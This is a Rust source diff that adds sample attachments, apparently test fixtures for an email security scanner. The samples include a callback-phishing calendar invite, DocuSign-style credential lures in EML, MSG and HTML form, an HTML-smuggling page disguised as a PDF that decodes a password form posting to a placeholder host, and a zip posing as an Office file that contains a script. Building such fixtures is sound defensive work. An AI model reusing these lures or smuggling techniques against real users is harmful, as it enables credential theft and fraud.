@@ -5,7 +5,7 @@ mod pictures;
 
 pub use super::mail::base64;
 pub use packed::{iso_with, ntfs_with, rar_4, rar_5, seven, winmail};
-pub use pictures::{Pixels, pdf_with_qr, qr, qr_as};
+pub use pictures::{FORMATS, Format, Pixels, pdf_with_qr, qr, qr_as};
 
 /// A file to attach.
 #[derive(Debug, Clone)]
@@ -55,6 +55,16 @@ pub fn named(what: &str, random: &str, code: &str) -> File {
         "iso-lnk" => file("documents.iso", "application/octet-stream", iso_with(&["Documents.lnk"], true)),
         "winmail-exe" => file("winmail.dat", "application/ms-tnef", winmail(&[("INVOIC~1.EXE", Some("invoice.pdf.exe"), b"MZ\x90\0")])),
         "winmail-pdf" => file("winmail.dat", "application/ms-tnef", winmail(&[("REPORT.PDF", Some("report.pdf"), &pdf(None))])),
+        "ics-alone" => file("invite.ics", "text/calendar; charset=utf-8; method=REQUEST", lunch().into_bytes()),
+        "ics-call" => file("invite.ics", "text/calendar; charset=utf-8; method=REQUEST", call(code).into_bytes()),
+        "eml-octet" => file("remittance.eml", "application/octet-stream", nested(&link).into_bytes()),
+        "eml-ordinary" => file("FW_ menu.eml", "application/octet-stream", ordinary().into_bytes()),
+        "msg-phish" => file("remittance.msg", "application/vnd.ms-outlook", outlook(&link)),
+        "page-lure" => file("remittance.html", "text/html", lure(&link).into_bytes()),
+        "smuggle-as-pdf" => file("message.html", "application/pdf", format!("<!-- %PDF-1.7 -->{}", smuggle(code)).into_bytes()),
+        "zip-as-office" => {
+            file("order.zip", "application/zip", zip(&[("[Content_Types].xml", b"<Types/>", false), ("order.js", b"x", false)]))
+        }
         "eml-phish" => file("remittance.eml", "message/rfc822", nested(&link).into_bytes()),
         _ => file("note.txt", "text/plain", b"A note.\r\n".to_vec()),
     }
@@ -72,6 +82,38 @@ fn smuggle(code: &str) -> String {
     let inner = base64(format!("<form action=https://example.invalid/{code}><input type=password></form>").as_bytes());
     format!(
         "<html><body><script>var d=atob('{inner}');document.write(d);var b=new Blob([d]);URL.createObjectURL(b);</script></body></html>"
+    )
+}
+
+fn lunch() -> String {
+    "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:Project meeting\r\nLOCATION:Room 4\r\nDESCRIPTION:We go through the plan for the\r\n  autumn\\, and what is left from last time.\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n".to_owned()
+}
+
+fn call(code: &str) -> String {
+    format!(
+        "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:Your subscription has been renewed\r\nDESCRIPTION:Your antivirus plan {code} has been renew\r\n ed\\nand 399.99 USD will be charged today.\\nIf you did not authorize this payment\\, call our \r\n helpline at +1 (808) 555-0123 to cancel.\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
+    )
+}
+
+fn ordinary() -> String {
+    "From: Kantina <kantina@contoso-corp.com>\r\nTo: kari.nordby@contoso-corp.com\r\nSubject: Menu\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nOn Monday there is fish soup, on Tuesday pasta.\r\n".to_owned()
+}
+
+/// The same lure as a mail that Outlook saved.
+fn outlook(link: &str) -> Vec<u8> {
+    let wide = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
+    compound(&[
+        ("__substg1.0_0037001F", &wide("Verify your account")),
+        ("__substg1.0_0C1A001F", &wide("DocuSign")),
+        ("__substg1.0_5D01001F", &wide("docs@kelmora77.net")),
+        ("__substg1.0_10130102", lure(link).as_bytes()),
+    ])
+}
+
+fn lure(link: &str) -> String {
+    format!(
+        "<html><body><p>Your account has been suspended. Verify your account within 24 hours: sign in with your email and password.</p>\
+         <p><a href=\"{link}\">Review document in DocuSign</a></p></body></html>"
     )
 }
 
